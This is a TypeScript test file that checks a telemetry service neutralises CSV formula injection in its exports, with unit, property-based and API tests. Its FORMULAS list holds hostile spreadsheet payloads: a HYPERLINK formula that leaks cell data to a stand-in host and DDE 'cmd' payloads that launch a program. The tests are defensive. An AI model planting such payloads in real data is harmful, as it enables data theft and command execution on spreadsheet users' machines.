// CSV formula injection (OWASP): text a pub_ key chose that starts like a formula is prefixed with
// `'` in csv answers; numbers stay numbers, negative ones included; json and ndjson stay exact.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { buildTestApp, dialects } from '../../../../test/helpers/test-app.js';
import { call } from '../../../../test/helpers/fixtures.js';
import { sendBatch, T0, telemetryApp } from '../ingestion/telemetry.fixtures.js';
import { neutraliseFormula, renderCsv } from './output-formats.js';
import { testClock } from '../../../../test/helpers/clock.js';

const HOUR = 3_600_000;
const iso = (t: number) => new Date(t).toISOString();
const FORMULAS = [
  '=HYPERLINK("http://x.example/?"&A1,"ok")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

test('neutraliseFormula prefixes exactly the OWASP starts', () => {
  for (const f of FORMULAS) assert.equal(neutraliseFormula(f), `'${f}`);
  for (const safe of ['on', '', ' =1', 'a=1', '1-2', "'=quoted", 'ü=1']) assert.equal(neutraliseFormula(safe), safe);
});

test('renderCsv: text cells neutralised, numbers (negative too) and empty cells as they are', () => {
  const csv = renderCsv(
    [{ bucketStart: 'b', dimensions: { variant: '=1+1' }, measures: { metricSum: -12.5, events: null } }],
    ['bucketStart', 'variant', 'metricSum', 'events'],
    false,
  );
  assert.equal(csv, "bucketStart,variant,metricSum,events\nb,'=1+1,-12.5,\n");
});

test('property: no csv text cell starts like a formula, and stripping the added quote gives the value back', () => {
  const start = fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", ' ', 'a', '');
  const cell = fc.tuple(start, fc.string({ unit: 'grapheme', maxLength: 12 })).map(([a, b]) => a + b);
  fc.assert(
    fc.property(
      fc.array(cell, { minLength: 1, maxLength: 4 }),
      fc.double({ noNaN: true, noDefaultInfinity: true }),
      (texts, value) => {
        const columns = [...texts.map((_, i) => `c${i}`), 'n'];
        const row = Object.fromEntries([...texts.map((t, i): [string, unknown] => [`c${i}`, t]), ['n', value]]);
        const [, parsed] = parseCsv(renderCsv([row], columns, false));
        texts.forEach((text, i) => {
          const written = parsed![i]!;
          assert.doesNotMatch(written, /^[=+\-@\t\r]/);
          assert.equal(/^[=+\-@\t\r]/.test(text) ? written.slice(1) : written, text);
        });
        assert.equal(Number(parsed![texts.length]), value === 0 ? 0 : value, 'numbers stay numbers');
      },
    ),
    { numRuns: 300 },
  );
});

for (const dialect of dialects) {
  describe(`insights csv on ${dialect}`, () => {
    test('events and aggregates: formula-like variants and metric keys neutralised in csv, exact in json and ndjson', async (t) => {
      const clock = testClock();
      const { app } = await buildTestApp(t, { dialect, now: clock.now });
      const s = await telemetryApp(app);
      const at = iso(T0 - HOUR + 60_000);
      // 20 subjects per cell, so no cell is suppressed; outcomes with negative values.
      const items = FORMULAS.flatMap((variant, v) =>
        Array.from({ length: 20 }, (_, i) => ({
          id: `f-${v}-${i}`,
          kind: 'outcome',
          timestamp: at,
          targetingKey: `subject-${i}`,
          flagKey: 'shown',
          variant,
          metricKey: `-rev${v}`,
          metricValue: -1.5,
        })),
      );
      for (let i = 0; i < items.length; i += 50)
        assert.equal(
          (await sendBatch(app, s.sdkProd, items.slice(i, i + 50))).json().accepted,
          Math.min(50, items.length - i),
        );
      const window = { appId: s.appId, env: 'prod', from: iso(T0 - 2 * HOUR), to: iso(T0) };

      const aggregate = {
        ...window,
        grain: 'hour',
        dimensions: ['variant', 'metricKey'],
        measures: ['events', 'metricSum'],
      };
      const json = (
        await call(app, 'POST', '/api/v1/insights/query', { token: s.user.token, payload: aggregate })
      ).json();
      assert.deepEqual(json.rows.map((r: any) => r.dimensions.variant).sort(), [...FORMULAS].sort());
      const csv = await call(app, 'POST', '/api/v1/insights/query', {
        token: s.user.token,
        payload: { ...aggregate, format: 'csv' },
      });
      assert.equal(csv.statusCode, 200, csv.body);
      const expected = json.rows.map((r: any) => [
        r.bucketStart,
        neutraliseFormula(r.dimensions.variant),
        `'${r.dimensions.metricKey}`,
        '20',
        '-30',
      ]);
      const parsed = parseCsv(csv.body);
      assert.deepEqual(parsed[0], ['bucketStart', 'variant', 'metricKey', 'events', 'metricSum']);
      assert.deepEqual(parsed.slice(1), expected);
      for (const row of parsed.slice(1))
        assert.ok(
          row.slice(1, 3).every((cell) => cell.startsWith("'")),
          JSON.stringify(row),
        );

      const eventsBody = { ...window, kinds: ['outcome'], limit: 100 };
      const csvEvents = parseCsv(
        (
          await call(app, 'POST', '/api/v1/insights/events', {
            token: s.user.token,
            payload: { ...eventsBody, format: 'csv' },
          })
        ).body,
      );
      const header = csvEvents[0]!;
      const col = (name: string) => header.indexOf(name);
      assert.equal(csvEvents.length, 1 + 100, 'one page of 100 events');
      for (const row of csvEvents.slice(1)) {
        assert.ok(row[col('variant')]!.startsWith("'"), row[col('variant')]);
        assert.ok(row[col('metricKey')]!.startsWith("'-rev"), row[col('metricKey')]);
        assert.equal(row[col('metricValue')], '-1.5');
      }
      const ndjson = (
        await call(app, 'POST', '/api/v1/insights/events', {
          token: s.user.token,
          payload: { ...eventsBody, format: 'ndjson' },
        })
      ).body;
      const page = (
        await call(app, 'POST', '/api/v1/insights/events', { token: s.user.token, payload: eventsBody })
      ).json();
      assert.deepEqual(
        ndjson
          .trimEnd()
          .split('\n')
          .map((l) => JSON.parse(l)),
        page.events,
      );
      assert.ok(
        page.events.every(
          (e: any) => FORMULAS.includes(e.variant) && e.metricKey.startsWith('-rev') && e.metricValue === -1.5,
        ),
      );
    });
  });
}

/** A small RFC 4180 reader (quoted cells may hold commas, quotes, tabs and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}
